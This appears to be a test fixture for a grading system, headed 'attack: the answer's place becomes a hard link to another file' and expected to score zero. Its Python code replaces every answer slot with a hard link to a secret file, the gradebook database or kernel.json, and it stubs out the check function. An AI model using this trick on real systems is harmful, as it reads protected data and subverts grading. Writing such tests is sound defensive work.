# attack: the answer's place becomes a hard link to another file
# wants: read
# grade: 0
# honest: 0
# %% after
import os
from pathlib import Path
answers = Path(os.environ.get("COURSE_EXCHANGE", "nowhere"), "answers")
for slot in answers.glob("*"):
    for target in ("@COURSE@/.secret", "@COURSE@/gradebook.db", answers.parent / "kernel.json"):
        try:
            slot.unlink(missing_ok=True)
            os.link(target, slot)
            break
        except OSError:
            pass
check = lambda *a: None
